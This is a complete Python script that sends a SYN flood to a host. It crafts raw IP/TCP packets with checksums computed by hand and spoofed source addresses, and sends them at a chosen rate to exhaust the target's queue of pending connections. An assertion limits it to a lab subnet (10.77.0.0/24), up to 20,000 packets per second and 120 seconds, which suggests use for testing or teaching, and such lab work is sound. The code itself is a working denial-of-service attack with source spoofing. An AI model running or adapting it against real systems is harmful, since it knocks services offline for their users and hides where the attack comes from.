"""flood.py FROM TO PORT RATE SECONDS: sends a host of the lab TCP connection requests (SYN) that nobody will complete.

RATE a second at most, from addresses FROM.201 to FROM.249 that nobody has, for at most SECONDS (120 at most). The last line: how many.
Only addresses of the lab, 10.77.0.0/24, are taken.
"""

import random
import socket
import struct
import sys
import time

prefix, target, port, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
assert prefix == "10.77.0" and target.startswith("10.77.0.") and 0 < rate <= 20000 and 0 < seconds <= 120
chance = random.Random(7)
LONGEST_QUEUE = 4096  # of unanswered requests, as Linux has it (net.core.somaxconn)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def request():
    source = socket.inet_aton(f"{prefix}.{chance.randrange(201, 250)}")
    destination = socket.inet_aton(target)
    head = struct.pack("!HHIIBBHHH", chance.randrange(1024, 65536), port, chance.randrange(1 << 32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head))
    tcp = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), chance.randrange(65536), 0, 64, socket.IPPROTO_TCP, 0, source, destination)
    return ip + tcp


wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
requests = [request() for _ in range(4 * LONGEST_QUEUE)]
begin = time.monotonic()
sent = 0
while (now := time.monotonic() - begin) < seconds:
    for _ in range(min(200, int(now * rate) - sent)):
        wire.sendto(requests[sent % len(requests)], (target, 0))
        sent += 1
    time.sleep(0.002)
print(f"{sent} requests in {now:.1f} s", flush=True)
